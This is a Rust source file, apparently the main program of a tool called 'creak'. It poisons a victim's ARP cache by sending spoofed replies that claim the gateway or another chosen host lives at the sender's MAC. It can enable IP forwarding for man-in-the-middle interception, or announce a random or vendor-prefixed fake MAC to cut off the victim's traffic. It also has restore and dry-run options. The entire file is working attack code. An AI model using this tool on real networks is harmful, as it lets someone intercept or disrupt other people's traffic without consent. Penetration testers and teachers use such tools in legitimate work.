use creak::addr::{binary_to_hex, generate_fake_mac, parse_mac};
use creak::exec::SystemRunner;
use creak::forge::{build_restore_reply, build_spoofed_reply};
use creak::netstate::NetworkController;
use creak::resolve::Resolver;
use creak::vendor::{vendor_prefix_octets, ManufTable, VendorLookup};
use creak::{route, Config, MacAddr};
use std::error::Error;
use std::net::Ipv4Addr;
use std::time::Duration;

/// tell a victim that another host (by default the gateway) lives at our MAC
/// address
#[derive(argh::FromArgs, Debug)]
struct Args {
    /// interface to send on
    #[argh(positional)]
    interface: String,

    /// host whose ARP cache gets poisoned
    #[argh(positional)]
    victim: Ipv4Addr,

    /// address to impersonate, defaults to the default gateway
    #[argh(option)]
    impersonate: Option<Ipv4Addr>,

    /// source MAC to announce, defaults to the interface's own
    #[argh(option)]
    source_mac: Option<String>,

    /// announce a random MAC so the victim's traffic goes nowhere
    #[argh(switch)]
    fake: bool,

    /// with --fake, draw the prefix from this manufacturer
    #[argh(option)]
    vendor: Option<String>,

    /// path of the Wireshark manuf file used with --vendor
    #[argh(option, default = "String::from(\"/usr/share/wireshark/manuf\")")]
    manuf: String,

    /// number of replies to send
    #[argh(option, default = "10")]
    count: u32,

    /// milliseconds between replies
    #[argh(option, default = "1000")]
    interval: u64,

    /// send the genuine mapping to the victim when done
    #[argh(switch)]
    restore: bool,

    /// print the frame instead of sending it
    #[argh(switch)]
    dry_run: bool,
}

fn main() -> Result<(), Box<dyn Error>> {
    env_logger::init();
    let args: Args = argh::from_env();
    let config = Config::from_env();
    let resolver = Resolver::new(config.clone(), SystemRunner::new());

    let impersonated = match args.impersonate {
        Some(ip) => ip,
        None => route::default_gateway(&config)?,
    };
    let source_mac = source_mac(&args, &resolver)?;

    let reply = build_spoofed_reply(source_mac, Some(args.victim), Some(impersonated))?;
    let frame = reply.to_bytes();
    println!("{} is-at {source_mac} -> {}", impersonated, args.victim);

    if args.dry_run {
        println!("{}", binary_to_hex(&frame));
        return Ok(());
    }

    if !args.fake {
        NetworkController::new(config, SystemRunner::new()).set_ip_forwarding(true)?;
    }

    send(&args.interface, &frame, args.count, args.interval)?;

    if args.restore {
        let victim_mac = resolver.resolve_ip_mac_default(args.victim)?;
        let genuine_mac = resolver.resolve_ip_mac_default(impersonated)?;
        let restore = build_restore_reply(genuine_mac, impersonated, victim_mac, args.victim);
        println!("{impersonated} is-at {genuine_mac} -> {}", args.victim);
        send(&args.interface, &restore.to_bytes(), 3, args.interval)?;
    }

    Ok(())
}

fn source_mac(args: &Args, resolver: &Resolver<SystemRunner>) -> Result<MacAddr, Box<dyn Error>> {
    if let Some(text) = &args.source_mac {
        return Ok(parse_mac(text)?);
    }
    if !args.fake {
        return Ok(resolver.resolve_device_mac(&args.interface)?.mac());
    }

    let Some(vendor) = &args.vendor else {
        return Ok(generate_fake_mac(None, true));
    };
    let prefixes = ManufTable::open(&args.manuf)?.lookup_vendor_macs(vendor);
    let Some(prefix) = prefixes.first() else {
        return Err(format!("no prefix registered to {vendor}").into());
    };
    let octets = vendor_prefix_octets(prefix)?;
    Ok(generate_fake_mac(Some(&octets), false))
}

#[cfg(target_os = "linux")]
fn send(interface: &str, frame: &[u8], count: u32, interval: u64) -> Result<(), Box<dyn Error>> {
    let socket = creak::socket::RawSocket::open(interface)?;
    for i in 0..count {
        if i > 0 {
            std::thread::sleep(Duration::from_millis(interval));
        }
        let sent = socket.send_frame(frame)?;
        println!("Sent {sent} of {} bytes", frame.len());
    }
    Ok(())
}

#[cfg(not(target_os = "linux"))]
fn send(_interface: &str, _frame: &[u8], _count: u32, _interval: u64) -> Result<(), Box<dyn Error>> {
    println!("Sending only works on Linux");
    Ok(())
}
